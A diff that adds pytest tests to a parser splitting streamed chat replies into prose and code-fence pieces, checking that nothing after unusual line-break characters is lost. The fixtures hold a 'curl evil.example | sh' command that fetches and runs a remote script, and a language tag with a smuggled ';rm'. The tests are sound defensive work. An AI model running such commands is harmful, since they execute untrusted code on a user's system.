@@ -66,3 +66,21 @@ def test_what_is_and_is_not_a_fence(text: str, kinds: list[str]) -> None:
 def test_a_language_that_is_no_name_is_dropped() -> None:
     assert read("```py\x1b[31m;rm\n")[0] == Piece("open", "")
     assert read("```c++ {.numberLines}\n")[0] == Piece("open", "c++")
+
+
+@pytest.mark.parametrize("sep", ["\r", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u2029"])
+@pytest.mark.parametrize("size", [1, 2, 3, 5, 7, 1000])
+def test_no_text_is_lost_at_a_character_python_takes_for_a_line_break(sep: str, size: int) -> None:
+    """Found by a review: str.splitlines breaks at these too, and what followed was dropped
+    (``ls\\x0b; curl evil | sh`` showed as ``ls``, and the rest of the reply vanished)."""
+    reply = f"Run this:\n```bash\nls{sep}; curl evil.example | sh\n```\nThe answer{sep} is 42.\n"
+    chunks = [reply[i:i + size] for i in range(0, len(reply), size)]
+    assert merged(read(*chunks)) == [
+        ("prose", "Run this:\n"), ("open", "bash"), ("code", f"ls{sep}; curl evil.example | sh"),
+        ("close", ""), ("prose", f"The answer{sep} is 42.\n")]
+
+
+def test_a_reply_that_ends_on_its_closing_fence_shows_no_fence() -> None:
+    assert merged(read("Here:\n```python\nx = 1\n```")) == [
+        ("prose", "Here:\n"), ("open", "python"), ("code", "x = 1"), ("close", "")]
+    assert merged(read("```\nx\n``")) == [("open", ""), ("code", "x"), ("code", "``"), ("close", "")]
